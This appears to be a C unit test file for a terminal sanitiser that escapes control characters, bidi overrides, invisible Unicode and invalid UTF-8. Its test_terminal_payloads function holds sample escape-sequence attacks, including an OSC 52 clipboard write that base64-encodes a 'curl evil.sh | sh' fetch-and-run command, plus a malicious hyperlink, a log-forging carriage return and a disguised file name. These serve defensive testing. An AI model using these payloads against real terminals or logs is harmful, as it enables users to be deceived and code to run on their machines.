/* Unit tests for the terminal sanitiser and display width. */
#include <locale.h>
#include <malloc.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "opsdeck/sanitize.h"

/* Sanitise len bytes of in under flags and compare with want. */
static void
check_len(const char *in, size_t len, unsigned flags, const char *want)
{
	char *got = sanitize(in, len, flags);

	assert_string_equal(got, want);
	assert_int_equal(sanitize_is_clean(in, len, flags),
	    len == strlen(want) && memcmp(in, want, len) == 0);
	free(got);
}

/* Same for a NUL-terminated input. */
static void
check(const char *in, unsigned flags, const char *want)
{
	check_len(in, strlen(in), flags, want);
}

/* The text is kept in a buffer of its own size (the worst case once
 * stayed reserved: four times the text in every stored string), and a run
 * of printable ASCII around escapes is copied whole. */
static void
test_exact_size(void **state)
{
	char *got, name[101];

	memset(name, 'a', 100);
	name[100] = '\0';
	got = sanitize(name, 100, 0);
	assert_string_equal(got, name);
	assert_true(malloc_usable_size(got) < 200);	/* not 401 */
	free(got);
	got = sanitize("ab\x1b[31mcd\xc3\xa9" "ef\tgh", 16, 0);
	assert_string_equal(got, "ab\\x1b[31mcd\xc3\xa9" "ef gh");
	assert_true(malloc_usable_size(got) < 16 * 4);
	free(got);
	check("long-printable-prefix \x07 then more", 0, "long-printable-prefix \\x07 then more");
	check("\x1b", 0, "\\x1b");
}

/* Printable ASCII and valid multi-byte UTF-8 pass unchanged. */
static void
test_clean_text(void **state)
{
	check("nginx-7d9f8b-abcde", 0, "nginx-7d9f8b-abcde");
	check("caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x94\xa5", 0,
	    "caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x94\xa5");
	check("back\\slash \\x1b", 0, "back\\slash \\x1b");
	check("", 0, "");
	assert_true(sanitize_is_clean("abc", 3, 0));
}

/* ESC and every other C0 control become \xNN; DEL too. */
static void
test_c0_and_del(void **state)
{
	char in[2] = { 0, 0 }, want[8];
	char *got;
	int c;

	check("a\x1b" "b", 0, "a\\x1bb");
	check("bell\x07", 0, "bell\\x07");
	check("del\x7f", 0, "del\\x7f");
	check_len("nul\0x", 5, 0, "nul\\x00x");
	for (c = 1; c < 0x20; c++) {
		if (c == '\t' || c == '\n' || c == '\r')
			continue;
		in[0] = (char)c;
		snprintf(want, sizeof want, "\\x%02x", c);
		got = sanitize(in, 1, SAN_KEEP_NEWLINE | SAN_KEEP_TAB);
		assert_string_equal(got, want);
		free(got);
	}
}

/* CR is always text; newline and tab depend on the flags. */
static void
test_cr_lf_tab(void **state)
{
	check("a\rb", 0, "a\\rb");
	check("a\rb", SAN_KEEP_NEWLINE | SAN_KEEP_TAB, "a\\rb");
	check("l1\nl2", 0, "l1\\nl2");
	check("l1\nl2", SAN_KEEP_NEWLINE, "l1\nl2");
	check("k\tv", 0, "k v");
	check("k\tv", SAN_KEEP_TAB, "k\tv");
	check("k\tv\n", SAN_KEEP_TAB, "k\tv\\n");
	check("k\tv\n", SAN_KEEP_NEWLINE, "k v\n");
}

/* C1 controls: raw bytes are invalid UTF-8 (\xNN), encoded ones \u00NN. */
static void
test_c1(void **state)
{
	check("\x9b" "2J", 0, "\\x9b2J");		/* 8-bit CSI */
	check("\x9d" "0;t\x9c", 0, "\\x9d0;t\\x9c");	/* 8-bit OSC ... ST */
	check("\xc2\x9b" "2J", 0, "\\u009b2J");
	check("\xc2\x85", 0, "\\u0085");
	check("\xc2\x80\xc2\x9f", 0, "\\u0080\\u009f");
	check("\xc2\xa0", 0, "\xc2\xa0");		/* NBSP is printable */
}

/* Bidi embeddings, overrides and isolates are shown as escapes. */
static void
test_bidi(void **state)
{
	/* "Trojan source": U+202E RIGHT-TO-LEFT OVERRIDE ... U+2066 LRI. */
	check("ok\xe2\x80\xae" "gnp.exe", 0, "ok\\u202egnp.exe");
	check("\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad", 0,
	    "\\u202a\\u202b\\u202c\\u202d");
	check("\xe2\x81\xa6x\xe2\x81\xa7y\xe2\x81\xa8z\xe2\x81\xa9", 0,
	    "\\u2066x\\u2067y\\u2068z\\u2069");
	/* A neighbour stays: U+2029 PARAGRAPH SEPARATOR. */
	check("\xe2\x80\xa9", 0, "\xe2\x80\xa9");
}

/* Characters that draw nothing are shown: a name with a zero-width space
 * is not the name without it. */
static void
test_invisible(void **state)
{
	check("zw-pro\xe2\x80\x8b" "d-tokyo", 0, "zw-pro\\u200bd-tokyo");	/* ZWSP */
	check("\xef\xbb\xbfprod", 0, "\\ufeffprod");				/* BOM */
	check("a\xe2\x81\xa0" "b", 0, "a\\u2060b");				/* word joiner */
	check("\xe2\x80\x8c\xe2\x80\x8d\xe2\x80\x8e\xe2\x80\x8f", 0,
	    "\\u200c\\u200d\\u200e\\u200f");
	check("soft\xc2\xad" "hyphen", 0, "soft\\u00adhyphen");
	check("\xe3\x85\xa4", 0, "\\u3164");					/* Hangul filler */
	check("\xe2\x81\xaa", 0, "\\u206a");					/* deprecated format */
	/* tag characters smuggle ASCII invisibly: U+E0041 TAG LATIN CAPITAL A */
	check("x\xf3\xa0\x81\x81y", 0, "x\\U000e0041y");
	/* visible neighbours stay: U+200A HAIR SPACE, the euro sign */
	check("\xe2\x80\x8a", 0, "\xe2\x80\x8a");
	check("\xe2\x82\xac", 0, "\xe2\x82\xac");				/* euro */
	assert_false(sanitize_is_clean("pro\xe2\x80\x8b" "d", 6, 0));
}

/* Invalid, overlong, surrogate, out-of-range and truncated UTF-8. */
static void
test_invalid_utf8(void **state)
{
	check("\xc0\xaf", 0, "\\xc0\\xaf");			/* overlong '/' */
	check("\xe0\x80\xaf", 0, "\\xe0\\x80\\xaf");		/* overlong 3-byte */
	check("\xf0\x80\x80\xaf", 0, "\\xf0\\x80\\x80\\xaf");	/* overlong 4-byte */
	check("\xc1\x9b", 0, "\\xc1\\x9b");	/* overlong ESC-ish C1 */
	check("\xed\xa0\x80", 0, "\\xed\\xa0\\x80");		/* surrogate D800 */
	check("\xf4\x90\x80\x80", 0, "\\xf4\\x90\\x80\\x80");	/* > U+10FFFF */
	check("\xf5\x80\x80\x80", 0, "\\xf5\\x80\\x80\\x80");
	check("ab\xe2\x80", 0, "ab\\xe2\\x80");			/* truncated */
	check("\xe2\x80" "x", 0, "\\xe2\\x80x");
	check("\xff\xfe", 0, "\\xff\\xfe");
	/* Largest valid values stay. */
	check("\xf4\x8f\xbf\xbf", 0, "\xf4\x8f\xbf\xbf");
	check("\xed\x9f\xbf", 0, "\xed\x9f\xbf");		/* U+D7FF */
}

/* CVE-2021-25743-style payloads in an event message or object name. */
static void
test_terminal_payloads(void **state)
{
	/* OSC 52: write the clipboard. */
	check("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", 0,
	    "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07");
	/* OSC 0: set the window title, BEL and ST terminated. */
	check("\x1b]0;x\x07", 0, "\\x1b]0;x\\x07");
	check("\x1b]0;x\x1b\\", 0, "\\x1b]0;x\\x1b\\");
	/* CSI: clear screen, home, hide cursor, SGR. */
	check("\x1b[2J\x1b[H\x1b[?25l\x1b[31mred", 0,
	    "\\x1b[2J\\x1b[H\\x1b[?25l\\x1b[31mred");
	/* Overwrite the line with CR, the classic log-forging trick. */
	check("Failed\rSucceeded", SAN_KEEP_NEWLINE, "Failed\\rSucceeded");
	/* Hyperlink (OSC 8) and DCS. */
	check("\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\", 0,
	    "\\x1b]8;;http://evil\\x1b\\click\\x1b]8;;\\x1b\\");
	check("\x1bP+q\x1b\\", 0, "\\x1bP+q\\x1b\\");
	assert_false(sanitize_is_clean("\x1b[2J", 4, 0));
}

/* A NULL input yields an empty string. */
static void
test_null(void **state)
{
	char *got = sanitize_str(NULL, 0);

	assert_string_equal(got, "");
	free(got);
	got = sanitize(NULL, 5, 0);
	assert_string_equal(got, "");
	free(got);
}

/* Display width counts wide and zero-width characters in any locale. */
static void
test_display_width(void **state)
{
	int pass;

	for (pass = 0; pass < 2; pass++) {
		/* First in the "C" locale, then in the environment's. */
		if (pass == 1)
			setlocale(LC_ALL, "");
		assert_int_equal(display_width(""), 0);
		assert_int_equal(display_width("Running"), 7);
		assert_int_equal(display_width("caf\xc3\xa9"), 4);
		assert_int_equal(display_width("\xe6\x97\xa5\xe6\x9c\xac"), 4);
		assert_int_equal(display_width("e\xcc\x81"), 1);	/* combining */
		assert_int_equal(display_width("\xef\xbc\xa1"), 2);	/* fullwidth A */
		assert_int_equal(display_width("a\xe2\x80\x8b" "b"), 2); /* ZWSP */
		assert_int_equal(display_width("\\x1b"), 4);
	}
	setlocale(LC_ALL, "C");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_clean_text),
		cmocka_unit_test(test_exact_size),
		cmocka_unit_test(test_c0_and_del),
		cmocka_unit_test(test_cr_lf_tab),
		cmocka_unit_test(test_c1),
		cmocka_unit_test(test_bidi),
		cmocka_unit_test(test_invisible),
		cmocka_unit_test(test_invalid_utf8),
		cmocka_unit_test(test_terminal_payloads),
		cmocka_unit_test(test_null),
		cmocka_unit_test(test_display_width),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
